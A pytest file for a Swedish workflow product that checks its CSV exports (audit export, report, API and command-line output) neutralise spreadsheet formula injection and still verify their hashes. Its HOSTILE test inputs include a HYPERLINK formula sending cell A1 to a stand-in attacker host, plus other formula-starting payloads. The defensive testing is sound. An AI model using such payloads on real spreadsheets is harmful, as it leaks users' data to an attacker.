"""Every CSV the product writes opens in a spreadsheet as text: a cell that would start a formula
gets a leading quote, every text cell is quoted, and the audit export still verifies offline
(its reader takes the quote off again, so the hashes are over the values that were recorded)."""

from __future__ import annotations

import csv
import io
import re

import pytest
from click.testing import CliRunner

from engine import Actor, Engine, read_source
from engine.base.csvsafe import FORMULA_STARTS, Writer, neutralise, restore, rows
from engine.history.export import export_document, parse, to_csv, verify_export
from webui.cli import main
from workflows import Finsam
from workflows.followup import Period, build_report, names_of, to_data_csv
from workflows.followup import to_csv as report_csv
from workflows.users import new_token

from .conftest import DATA
from .test_timers import Clock, ClockDesk
from .walk import NEED

HOSTILE = ['=HYPERLINK("https://angripare.example/?"&A1;"Klicka")', "+1+1", "-2+3",
           "@SUM(A1:A9)", "\tTAB", "\rCR", "\nLF", "'=redan citerad", "＝1+1",
           "Vanlig; =1+1, \"citat\"", "rad 1\u2028rad 2\x85rad 3\r\nrad 4"]
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def plain_cells(text: str, delimiter: str = ",") -> list[str]:
    """The cells as a spreadsheet's CSV reader sees them (no restore)."""
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
            for cell in row]


def opens_as_text(text: str, delimiter: str = ",") -> bool:
    """No cell starts a formula (a negative number is a number)."""
    return not any(cell[:1] in FORMULA_STARTS - {"'"} and not NUMBER.fullmatch(cell)
                   for cell in plain_cells(text, delimiter))


@pytest.mark.parametrize("value", HOSTILE + ["", "vanlig text", "'", "''x"])
def test_neutralise_is_reversed_exactly(value: str) -> None:
    out = io.StringIO()
    Writer(out).writerow([value, 42, -5, 1.5, None])
    [row] = list(rows(out.getvalue()))
    assert row == [value, "42", "-5", "1.5", ""]
    assert opens_as_text(out.getvalue())
    cell = neutralise(value)
    assert isinstance(cell, str) and restore(cell) == value
    assert out.getvalue().startswith('"')  # text is quoted: a separator cannot start a cell


def test_the_audit_csv_opens_as_text_and_verifies(engine: Engine) -> None:
    engine.deploy("t", read_source(DATA / "engine" / "approval.bpmn"), "tester")
    groups = frozenset({"Requester", "Board", "a", "b", "c"})
    for name in HOSTILE[:4]:
        actor = Actor.of_groups(name, "t", "@acting", groups)
        started = engine.start_instance(actor, "approval", {"title": HOSTILE[-1]})
        instance = started.instance
        text = to_csv(export_document(engine.get_instance("t", instance.id),
                                      engine.events("t", instance.id)))
        assert opens_as_text(text)
        assert f"'{name}" in plain_cells(text)
        document = parse(text)
        assert document["events"][0]["actor"] == name
        assert verify_export(document) == []
        assert verify_export(document, document["head"]["hash"]) == []
        forged = text.replace(name.replace('"', '""'), "someone", 1)
        assert verify_export(parse(forged)) != []


@pytest.fixture
def titled(finsam: Finsam, database_url: str) -> list[str]:
    """Two needs whose titles are formulas, each with a Finsam route (a row of the report)."""
    desk = ClockDesk(database_url, Clock())
    titles = [HOSTILE[0], "@SUM(A1:A9); =1+1"]
    for title in titles:
        start = desk.start_need("kansli", {"titel": title})
        desk.act("kansli", start.instance.id, "identifiera_behov", {
            **NEED, "titel": title, "parter": ["af", "fk", "angelholm"],
            "finansieringsform": "finansiell_samordning"})
    return titles


def _report_text_is_safe(text: str, titles: list[str], fmt: str = "csv-data") -> None:
    """The report's CSV in either form: the tidy one of codes (commas), or the one for Swedish
    Excel (semicolons after a byte order mark)."""
    delimiter = ";" if fmt == "csv" else ","
    if fmt == "csv":
        assert text.startswith("\ufeff")
        text = text[1:]
    assert opens_as_text(text, delimiter)
    restored = [restore(cell) for cell in plain_cells(text, delimiter)]
    for title in titles:
        assert title in restored and "'" + title in plain_cells(text, delimiter)


def test_the_report_csv_opens_as_text(finsam: Finsam, titled: list[str]) -> None:
    report = build_report(finsam.db, ("nnv-skane",), Period())
    _report_text_is_safe(to_data_csv(report), titled)
    _report_text_is_safe(report_csv(report, names_of(finsam.db, ["nnv-skane"])), titled, "csv")


@pytest.mark.parametrize("fmt", ["csv", "csv-data"])
def test_the_report_csv_of_the_api_opens_as_text(client, finsam: Finsam,  # type: ignore[no-untyped-def]
                                                 titled: list[str], fmt: str) -> None:
    token = new_token(finsam.db, "kansli")
    response = client.get(f"/api/reports/uppfoljning?format={fmt}",
                          headers={"Authorization": f"Bearer {token}"})
    assert response.status_code == 200
    _report_text_is_safe(response.get_data().decode("utf-8"), titled, fmt)


@pytest.mark.parametrize("fmt", ["csv", "csv-data"])
def test_the_report_csv_of_the_command_line_opens_as_text(
        finsam: Finsam, titled: list[str], database_url: str,
        monkeypatch: pytest.MonkeyPatch, fmt: str) -> None:
    monkeypatch.setenv("FINSAM_DATABASE_URL", database_url)
    result = CliRunner().invoke(main, ["report", "uppfoljning", "--forbund", "nnv-skane",
                                       "--format", fmt], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    _report_text_is_safe(result.output, titled, fmt)
